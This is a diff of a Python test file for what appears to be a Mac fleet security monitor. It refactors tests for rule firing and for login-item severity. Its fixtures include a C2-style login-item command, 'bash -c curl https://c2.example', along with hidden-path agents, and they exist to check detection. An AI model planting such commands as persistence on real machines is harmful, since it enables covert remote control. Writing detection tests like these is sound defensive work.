@@ -77,22 +77,22 @@ PLANTED: dict[str, tuple[str, dict[str, Any], Change]] = {
 }
 
 
-@pytest.mark.parametrize("rule", PLANTED)
-async def test_a_built_in_rule_fires_once_and_resolves(copy: Copy, rule: str) -> None:
+async def test_each_built_in_rule_fires_once_and_resolves(copy: Copy) -> None:
     await ask(copy)
-    table, where, change = PLANTED[rule]
-    serial, device_id = next(
-        (serial, number)
-        for serial, number in copy.rows(
-            "SELECT d.serial_number, d.device_id FROM devices d JOIN filevault f USING (device_id) WHERE f.status "
-            "AND d.user_id IS NOT NULL AND d.agent_installed AND d.last_check_in > '2026-11-20' AND d.mdm_enabled"
-        )
+    ordinary = copy.rows(
+        "SELECT d.device_id, d.serial_number FROM devices d JOIN filevault f USING (device_id) "
+        "JOIN users u ON u.id = d.user_id WHERE f.status AND NOT u.archived AND d.agent_installed "
+        "AND d.last_check_in > '2026-11-20' AND d.mdm_enabled"
     )
     planted = Planted()
-    planted.plant(table, where | {"device_id": device_id}, change)
-    assert said(await step(copy, planted)) == [("opened", rule, serial)]
+    found: set[tuple[str, str]] = set()
+    for (rule, (table, where, change)), (device_id, serial) in zip(PLANTED.items(), ordinary, strict=False):
+        planted.plant(table, where | {"device_id": device_id}, change)
+        found.add((rule, serial))
+    assert len(found) == len(PLANTED)
+    assert sorted(said(await step(copy, planted))) == sorted(("opened", *one) for one in found)
     assert said(await ask(copy)) == [], "once"
-    assert said(await step(copy, None)) == [("resolved", rule, serial)]
+    assert sorted(said(await step(copy, None))) == sorted(("resolved", *one) for one in found)
 
 
 async def test_malware_that_is_not_quarantined_is_an_alert_until_it_is(copy: Copy) -> None:
@@ -145,24 +145,32 @@ async def test_a_signed_login_item_that_is_rolled_out_to_twelve_macs_is_no_alert
     assert len(copy.rows("SELECT * FROM launch_items WHERE label = 'us.zoom.rollout'")) == 12
 
 
-@pytest.mark.parametrize(
-    ("command", "severity"),
-    [
-        ("/Users/Shared/.hidden/agent", "high"),
-        ("/private/tmp/x", "high"),
-        ("/bin/bash, -c, curl https://c2.example", "high"),
-        ("/usr/bin/osascript -e quit", "high"),
-        ("/opt/unknown/agent", "medium"),
-    ],
-)
-async def test_a_login_item_is_as_severe_as_where_it_runs(copy: Copy, command: str, severity: str) -> None:
+SEVERITIES = {
+    "/Users/Shared/.hidden/agent": "high",
+    "/private/tmp/x": "high",
+    "/bin/bash, -c, curl https://c2.example": "high",
+    "/usr/bin/osascript -e quit": "high",
+    "/opt/unknown/agent": "medium",
+}
+
+
+async def test_a_login_item_is_as_severe_as_where_it_runs(copy: Copy) -> None:
     await ask(copy)
-    _, device_id = device(copy)
     planted = Planted()
-    item = with_new(label="org.unknown", path="/Library/LaunchAgents/org.unknown.plist", program_arguments=command)
-    planted.plant("launch_agents_and_daemons", {"device_id": device_id, "label": "com.apple.AirPlayXPCHelper"}, item)
-    (event,) = (await step(copy, planted)).events
-    assert (event["rule"], event["severity"]) == ("new-unsigned-login-item", severity)
+    expected = []
+    for place, (command, severity) in enumerate(SEVERITIES.items()):
+        serial, device_id = device(copy, place)
+        expected.append((serial, "new-unsigned-login-item", severity))
+        label = f"org.unknown.{place}"
+        item = with_new(label=label, path=f"/Library/LaunchAgents/{label}.plist", program_arguments=command)
+        planted.plant(
+            "launch_agents_and_daemons", {"device_id": device_id, "label": "com.apple.AirPlayXPCHelper"}, item
+        )
+    found = [
+        (event["row"].get("devices", [event["row"]])[0]["serial_number"], event["rule"], event["severity"])
+        for event in (await step(copy, planted)).events
+    ]
+    assert sorted(found) == sorted(expected)
 
 
 async def test_an_acknowledged_alert_says_nothing_of_changes_until_its_end(copy: Copy) -> None:
